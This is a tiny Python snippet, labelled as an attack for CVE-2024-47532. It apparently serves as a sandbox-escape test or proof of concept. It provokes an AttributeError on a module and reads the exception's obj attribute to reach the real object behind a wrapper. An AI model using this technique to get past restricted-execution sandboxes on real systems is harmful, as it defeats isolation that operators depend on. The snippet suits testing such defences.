# attack: AttributeError.obj exposes the real object behind a wrapper (CVE-2024-47532)
import string

try:
    string.no_such_name
except AttributeError as e:
    real = e.obj
    print(real.__dict__["Formatter"])
